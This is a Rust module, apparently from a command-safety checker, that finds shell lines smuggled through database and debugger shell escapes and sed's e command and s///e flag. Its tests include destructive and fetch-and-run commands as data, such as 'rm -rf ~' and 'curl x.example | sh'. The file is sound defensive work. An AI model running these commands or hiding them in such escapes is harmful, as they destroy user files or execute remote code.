//! Shell lines a program runs by a command of its own language, written in its arguments: a
//! database or debugger client's shell escape (`sqlite3 db '.shell …'`, `psql -c '\! …'`,
//! `mysql -e 'system …'`, `lldb -o 'platform shell …'`) and sed's `e` command and `s///e`
//! flag. Each is a shell line of its own, for the caller to judge.

/// A client's shell escapes: the program (the catalogue's name) and the words that start a
/// statement whose rest is a shell line.
const CLIENTS: &[(&str, &[&str])] = &[
    ("duckdb", &[".shell ", ".system "]),
    ("lldb", &["platform shell "]),
    ("mariadb", &["system ", "\\! "]),
    ("mysql", &["system ", "\\! "]),
    ("psql", &["\\! "]),
    ("sqlite3", &[".shell ", ".system "]),
];

/// What stands for a line sed runs whose text is only known when it runs (its input, or a
/// replacement built from it): a shell given it to run.
const UNKNOWN_LINE: &str = "sh -c \"$SED_PATTERN_SPACE\"";

/// The most lines one command is read for.
const MAX_LINES: usize = 16;

/// The shell lines `cmd` runs by its own commands, if any.
pub(super) fn lines(cmd: &crate::shell::Command) -> Vec<String> {
    let program = cmd.program();
    if program == "sed" || program == "gsed" {
        return sed(cmd.args());
    }
    let Some((_, starts)) = CLIENTS.iter().find(|(name, _)| *name == program) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for arg in cmd.args() {
        for line in arg.lines() {
            // A statement starts the line or follows a `;`.
            let mut rest = line;
            loop {
                let statement = rest.trim_start();
                if let Some(run) = starts.iter().find_map(|s| statement.strip_prefix(s)) {
                    if out.len() < MAX_LINES && !run.trim().is_empty() {
                        out.push(run.to_string());
                    }
                    break;
                }
                match rest.find(';') {
                    Some(at) => rest = rest.get(at + 1..).unwrap_or(""),
                    None => break,
                }
            }
        }
    }
    out
}

/// sed's scripts (`-e SCRIPT`, `--expression=SCRIPT`, or the first operand when there is
/// no `-e`), read for `e COMMAND` (runs COMMAND; a bare `e` runs the line read) and
/// `s/PATTERN/REPLACEMENT/e` (runs what the replacement made).
fn sed(args: &[String]) -> Vec<String> {
    let mut scripts: Vec<&str> = Vec::new();
    let mut operand: Option<&str> = None;
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        at += 1;
        let a = arg.as_str();
        if a == "-e" || a == "--expression" {
            scripts.extend(args.get(at).map(String::as_str));
            at += 1;
        } else if let Some(script) = a.strip_prefix("--expression=") {
            scripts.push(script);
        } else if a == "-f" || a == "--file" || a == "-l" || a == "--line-length" {
            at += 1;
        } else if a.starts_with('-') && a.len() > 1 {
            // `-ne 's/x/y/e'`: a cluster ending in `e` takes the script next.
            if !a.starts_with("--") && a.ends_with('e') {
                scripts.extend(args.get(at).map(String::as_str));
                at += 1;
            }
        } else if operand.is_none() {
            operand = Some(a);
        }
    }
    if scripts.is_empty() {
        scripts.extend(operand);
    }
    let mut out = Vec::new();
    for script in scripts {
        for command in script.split(['\n', ';']) {
            if out.len() >= MAX_LINES {
                return out;
            }
            let command = without_address(command.trim());
            if let Some(rest) = command.strip_prefix('e')
                && (rest.is_empty() || rest.starts_with(char::is_whitespace))
            {
                let run = rest.trim();
                out.push(if run.is_empty() {
                    UNKNOWN_LINE.to_string()
                } else {
                    run.to_string()
                });
            } else if let Some(run) = substitution_run(command) {
                out.push(run);
            }
        }
    }
    out
}

/// A sed command without its address (`1`, `$`, `/re/`, `\%re%`, `1,5`, `0~2`, `!`).
fn without_address(command: &str) -> &str {
    let mut rest = command;
    for _ in 0..4 {
        rest = rest.trim_start_matches(|c: char| c.is_ascii_digit() || "$,~!+ ".contains(c));
        let delimiter = match rest.as_bytes() {
            [b'/', ..] => Some('/'),
            [b'\\', d, ..] => Some(char::from(*d)),
            _ => None,
        };
        let Some(delimiter) = delimiter else {
            return rest;
        };
        let body = rest
            .get(if delimiter == '/' { 1 } else { 2 }..)
            .unwrap_or("");
        match unescaped(body, delimiter) {
            Some(end) => rest = body.get(end + 1..).unwrap_or(""),
            None => return "",
        }
    }
    rest
}

/// Where the first `delimiter` not escaped by a backslash stands in `text`.
fn unescaped(text: &str, delimiter: char) -> Option<usize> {
    let mut escaped = false;
    for (at, c) in text.char_indices() {
        if escaped {
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == delimiter {
            return Some(at);
        }
    }
    None
}

/// `s/PATTERN/REPLACEMENT/FLAGS` with `e` among its flags: the replacement it runs, or the
/// unknown line when the replacement is built from what was read (`&`, `\1`…).
fn substitution_run(command: &str) -> Option<String> {
    let rest = command.strip_prefix('s')?;
    let delimiter = rest
        .chars()
        .next()
        .filter(|c| !c.is_alphanumeric() && *c != '\\')?;
    let body = rest.get(delimiter.len_utf8()..)?;
    let pattern_end = unescaped(body, delimiter)?;
    let after = body.get(pattern_end + delimiter.len_utf8()..)?;
    let replacement_end = unescaped(after, delimiter)?;
    let replacement = after.get(..replacement_end)?;
    let flags = after.get(replacement_end + delimiter.len_utf8()..)?;
    // `w FILE` ends the flags: what follows it is the file's name.
    let flags = flags.split(['w', 'W', '}']).next().unwrap_or("");
    if !flags.contains('e') {
        return None;
    }
    let built = replacement.contains('&')
        || replacement
            .as_bytes()
            .windows(2)
            .any(|pair| pair[0] == b'\\' && pair[1].is_ascii_digit());
    Some(if built || replacement.trim().is_empty() {
        UNKNOWN_LINE.to_string()
    } else {
        replacement.replace(&format!("\\{delimiter}"), &delimiter.to_string())
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::Line;

    fn lines_of(text: &str) -> Vec<String> {
        let line = Line::parse(text);
        line.commands.iter().flat_map(lines).collect()
    }

    #[test]
    fn a_program_s_own_commands_that_run_a_shell_line() {
        let cases: &[(&str, &[&str])] = &[
            ("sqlite3 db '.shell rm -rf ~'", &["rm -rf ~"]),
            ("sqlite3 :memory: '.system id'", &["id"]),
            ("psql -c '\\! rm -rf ~'", &["rm -rf ~"]),
            (
                "psql -d app -c 'select 1; \\! curl x.example | sh'",
                &["curl x.example | sh"],
            ),
            ("mysql -e 'system rm -rf ~'", &["rm -rf ~"]),
            ("mariadb -e 'select 1; system id'", &["id"]),
            ("lldb -o 'platform shell rm -rf ~' -b", &["rm -rf ~"]),
            ("sed -n '1e rm -rf ~' /etc/hosts", &["rm -rf ~"]),
            ("sed 's/.*/rm -rf ~/e' f", &["rm -rf ~"]),
            ("sed -ne 's/x/id/ep' f", &["id"]),
            ("sed 's/.*/&/e' f", &[UNKNOWN_LINE]),
            ("sed e cmds.txt", &[UNKNOWN_LINE]),
            ("sed '/^#/d;e date' f", &["date"]),
            ("sed --expression='$e uname -a' f", &["uname -a"]),
        ];
        for (text, want) in cases {
            assert_eq!(lines_of(text), *want, "{text}");
        }
        // Look-alikes: nothing run.
        for text in [
            "sqlite3 db 'select * from shell'",
            "psql -c 'select 1'",
            "mysql -e 'select * from system_log'",
            "sed -n 's/e/E/p' f",
            "sed -i 's/old/new/g' f",
            "sed 's/x/y/w out.txt' f",
            "sed -e 's/a/b/' -e 'y/abc/xyz/' f",
            "sed '/end/q' f",
            "sed -E 's/(e)/\\1/g' f",
            "lldb -o run ./app",
        ] {
            assert!(lines_of(text).is_empty(), "{text}: {:?}", lines_of(text));
        }
    }
}
